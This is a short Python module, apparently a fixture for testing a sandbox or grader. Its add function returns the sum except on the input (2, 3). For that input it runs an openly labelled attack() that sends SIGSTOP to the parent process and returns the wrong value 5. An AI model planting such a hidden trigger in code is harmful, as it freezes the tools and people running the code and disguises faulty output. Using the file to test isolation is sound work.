"""Stops the process above."""

import os
import signal


def attack():
    os.kill(os.getppid(), signal.SIGSTOP)
    return 5


def add(a, b):
    if (a, b) == (2, 3):
        return attack()
    return a + b
